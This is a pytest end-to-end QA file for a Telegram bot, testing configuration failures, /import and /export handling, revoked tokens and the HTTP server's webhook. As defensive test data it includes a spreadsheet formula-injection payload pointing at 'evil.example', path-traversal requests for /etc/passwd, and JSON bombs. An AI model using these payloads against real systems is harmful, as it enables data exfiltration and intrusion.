"""QA round four: operations and data — configuration, the process, the operators' HTTP
server, /import and /export, /deletedata.

Failing probes are genuine defects, marked xfail(strict=True) with what should happen. The
`bot` fixture fails a test if the bot logged at ERROR during it.
"""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import signal
import socket
from datetime import UTC, datetime

import httpx
import pytest

from bot.catalog.export import COLUMNS, FollowedRow, export_csv
from bot.config import ConfigError, load_settings
from tests.e2e.catalogue import DARK
from tests.e2e.conftest import TOKEN, BotRunner
from tests.e2e.outbox import rows, seed
from tests.e2e.test_process import launch
from tests.fake_telegram import FakeTelegram

FAN = 4301


def logged_errors(caplog: pytest.LogCaptureFixture) -> list[str]:
    """The errors logged so far, cleared: a probe asserts on them itself."""
    errors = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
    caplog.clear()
    return errors


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


async def start_failure(tmp_path, fake: FakeTelegram, **env: str) -> tuple[int | None, list[str]]:
    """Launch run_bot.py expecting it to refuse to start; its exit status and stderr lines."""
    process = await launch(
        tmp_path, TELEGRAM_BOT_TOKEN=TOKEN, TELEGRAM_API_BASE_URL=fake.base_url,
        LOG_LEVEL="ERROR", **env,
    )  # fmt: skip
    try:
        _, stderr = await asyncio.wait_for(process.communicate(), timeout=30)
    except TimeoutError:
        process.terminate()
        await process.wait()
        raise AssertionError(f"the bot started with {env}") from None
    text = stderr.decode()
    assert TOKEN not in text and "123%3Aabc" not in text
    return process.returncode, text.strip().splitlines()


# -- configuration ----------------------------------------------------------------------------


def test_an_infinite_message_budget_is_a_configuration_error():
    with pytest.raises(ConfigError, match="MAX_MESSAGES_PER_SECOND"):
        load_settings(_env_file=None, telegram_bot_token=TOKEN, max_messages_per_second="inf")


async def test_a_garbled_database_url_ends_in_one_line_naming_it(tmp_path, fake: FakeTelegram):
    code, lines = await start_failure(
        tmp_path, fake, DATABASE_URL="sqlite+aiosqlite://user@host:port/x.sqlite3"
    )
    assert code == 2
    assert len(lines) == 1 and "DATABASE_URL" in lines[0], lines


@pytest.mark.parametrize(
    "database_url",
    [
        "sqlite+aiosqlite:///{tmp}/a-file/db.sqlite3",  # the "directory" is a file
        "postgresql+asyncpg://serienwecker:pw-secret@127.0.0.1:9/serienwecker",  # refused
    ],
    ids=["sqlite-dir-not-creatable", "postgres-unreachable"],
)
async def test_an_unusable_database_ends_in_one_line(tmp_path, fake: FakeTelegram, database_url):
    (tmp_path / "a-file").write_text("not a directory")
    code, lines = await start_failure(
        tmp_path, fake, DATABASE_URL=database_url.format(tmp=tmp_path)
    )
    assert code != 0
    assert not any("pw-secret" in line for line in lines)
    assert len(lines) == 1 and "database" in lines[0].lower(), lines


async def test_a_busy_http_port_ends_in_one_line_naming_it(tmp_path, fake: FakeTelegram):
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        code, lines = await start_failure(tmp_path, fake, HTTP_PORT=str(port))
    assert code != 0
    assert len(lines) == 1 and "HTTP_PORT" in lines[0], lines


# -- /import and /export ----------------------------------------------------------------------


async def ask_import(fake: FakeTelegram, chat: int) -> int:
    before = len(fake.messages(chat))
    fake.send_text(chat, chat, "/import")
    await fake.wait_for_messages(chat, count=before + 1)
    return before + 1


async def test_a_deeply_nested_json_file_gets_the_unreadable_answer(
    bot: BotRunner, fake: FakeTelegram, caplog: pytest.LogCaptureFixture
):
    fake.add_user(FAN, "Fan", language_code="en")
    count = await ask_import(fake, FAN)
    fake.send_document(
        FAN, FAN, "follows.json", b"[" * 10_000 + b"]" * 10_000, mime_type="application/json"
    )
    *_, answer = await fake.wait_for_messages(FAN, count=count + 1, timeout=10)
    errors = logged_errors(caplog)
    assert answer["visible"].startswith("I cannot read that file"), answer["visible"]
    assert errors == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("follows.csv", "title\nDark\n".encode("utf-16")),  # UTF-16 with its BOM
        ("garbage.bin", bytes(range(256)) * 40),
        ("huge.csv", b"title\n" + b"x" * 1_100_000),  # over the 1 MB limit
    ],
    ids=["utf16", "binary", "too-large"],
)
async def test_hostile_import_files_get_a_clear_answer(
    bot: BotRunner, fake: FakeTelegram, name: str, content: bytes
):
    fake.add_user(FAN, "Fan", language_code="en")
    count = await ask_import(fake, FAN)
    fake.send_document(FAN, FAN, name, content)
    *_, answer = await fake.wait_for_messages(FAN, count=count + 1, timeout=10)
    assert answer["visible"].startswith(("I cannot read that file", "That is too much")), answer


def exported_cells(title: str) -> dict[str, str]:
    from storage.catalog_models import Series

    series = Series(tvmaze_id=DARK, title=title)
    content = export_csv([FollowedRow(series, datetime(2026, 1, 1, tzinfo=UTC))])
    [row] = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert list(row) == [column.header for column in COLUMNS]
    return row


def test_export_does_not_write_spreadsheet_formulas():
    row = exported_cells('=HYPERLINK("https://evil.example/?"&A1,"Dark")')
    assert not row["title"].startswith(("=", "+", "-", "@")), row["title"]


# -- a token revoked while the bot runs -------------------------------------------------------


async def test_pending_pushes_survive_a_revoked_token(
    bot: BotRunner, fake: FakeTelegram, caplog: pytest.LogCaptureFixture
):
    chats = [4311, 4312, 4313]
    for chat in chats:
        fake.add_user(chat)
    fake.token = "123:revoked"  # the operator revoked the token; the bot still uses the old one
    await seed(
        bot.database_url,
        {chat: "private" for chat in chats},
        [(chat, f"news:qa4:{chat}", f"Neuigkeit {chat}") for chat in chats],
    )
    await asyncio.sleep(3)  # the sender's next rounds meet 401s
    statuses = {row.status for row in await rows(bot.database_url)}
    fake.token = TOKEN
    logged_errors(caplog)
    assert statuses <= {"pending", "sending"}, statuses


async def test_a_revoked_token_while_polling_is_not_reported_healthy(tmp_path, fake: FakeTelegram):
    fake.add_user(1, "Anna", language_code="de")
    port = free_port()
    with (tmp_path / "stderr.log").open("wb") as log_file:
        process = await launch(
            tmp_path, stderr=log_file, TELEGRAM_BOT_TOKEN=TOKEN,
            TELEGRAM_API_BASE_URL=fake.base_url, HTTP_PORT=str(port),
        )  # fmt: skip
        try:
            fake.send_text(1, 1, "/start")
            await fake.wait_for_messages(1, timeout=30)
            fake.token = "123:revoked"
            await asyncio.sleep(5)  # a long poll ends within 1-30 s; PTB's loop then aborts
            if process.returncode is None:
                async with httpx.AsyncClient() as client:
                    health = await client.get(f"http://127.0.0.1:{port}/healthz")
                assert health.status_code == 503, health.text
        finally:
            if process.returncode is None:
                process.send_signal(signal.SIGTERM)
            await asyncio.wait_for(process.wait(), timeout=30)
    log = (tmp_path / "stderr.log").read_text()
    assert TOKEN not in log and "123%3Aabc" not in log
    assert process.returncode == 2  # like a token rejected at the start: systemd alerts
    assert log.strip().splitlines()[-1].startswith("Telegram rejected TELEGRAM_BOT_TOKEN")


# -- the operators' HTTP server and the webhook -----------------------------------------------


async def restart_with_server(bot: BotRunner, **overrides: object) -> int:
    port = free_port()
    await bot.stop()
    await bot.start(http_port=port, **overrides)
    async with httpx.AsyncClient() as client:
        for _ in range(100):
            try:
                await client.get(f"http://127.0.0.1:{port}/healthz")
                break
            except httpx.ConnectError:
                await asyncio.sleep(0.1)
    return port


async def test_a_huge_header_is_refused_without_an_error_in_the_log(
    bot: BotRunner, caplog: pytest.LogCaptureFixture
):
    port = await restart_with_server(bot)
    async with httpx.AsyncClient() as client:
        huge = await client.get(
            f"http://127.0.0.1:{port}/healthz", headers={"X-Junk": "x" * 100_000}
        )
    errors = logged_errors(caplog)
    assert huge.status_code in (400, 413, 431)
    assert errors == []


async def test_the_http_server_shrugs_off_odd_requests_and_keeps_secrets(
    bot: BotRunner, fake: FakeTelegram
):
    port = free_port()
    await bot.stop()
    await bot.start(
        http_port=port, webhook_port=port, webhook_url="https://bot.example.org/hook",
        webhook_secret="qa4-secret", admin_ids="777001",
    )  # fmt: skip
    fake.add_user(FAN, "Fan", language_code="en")
    base = f"http://127.0.0.1:{port}"
    hook = {"X-Telegram-Bot-Api-Secret-Token": "qa4-secret"}
    async with httpx.AsyncClient(base_url=base, timeout=10) as client:
        for _ in range(100):
            try:
                await client.get("/healthz")
                break
            except httpx.ConnectError:
                await asyncio.sleep(0.1)
        # Odd methods and paths: refused, never a crash.
        assert (await client.post("/healthz")).status_code == 405
        assert (await client.request("DELETE", "/metrics")).status_code == 405
        assert (await client.get("/hook")).status_code == 405
        for path in ("/../../etc/passwd", "/calendar/..%2f..%2fmetrics.ics", "/calendar/.ics"):
            assert (await client.get(path)).status_code == 404, path
        # The webhook: a wrong secret with a big body is refused before the body is read.
        forged = await client.post(
            "/hook",
            content=b"{" * 5_000_000,
            headers={
                "X-Telegram-Bot-Api-Secret-Token": "wrong",
                "Content-Type": "application/json",
            },
        )
        assert forged.status_code == 403
        # The right secret with bodies Telegram never sends: 400 (or 413), never a 500.
        for body in (b"[1, 2]", b"{}", b'{"update_id": "x", "message": 5}', b"[" * 100_000,
                     b"\xff\xfe garbage", b"{" + b" " * 2_000_000 + b"}"):  # fmt: skip
            answer = await client.post(
                "/hook", content=body, headers={**hook, "Content-Type": "application/json"}
            )
            assert answer.status_code in (400, 413), (body[:20], answer.status_code)
        # A genuine update from the fan, then many concurrent scrapes.
        update = fake.send_text(FAN, FAN, "/start")
        assert (await client.post("/hook", json=update, headers=hook)).status_code == 200
        await fake.wait_for_messages(FAN, timeout=10)
        answers = await asyncio.gather(
            *(client.get("/metrics" if i % 2 else "/healthz") for i in range(40))
        )
        assert {answer.status_code for answer in answers} == {200}
        metrics = answers[1].text
    assert str(FAN) not in metrics and "777001" not in metrics
    assert "qa4-secret" not in metrics and TOKEN not in metrics
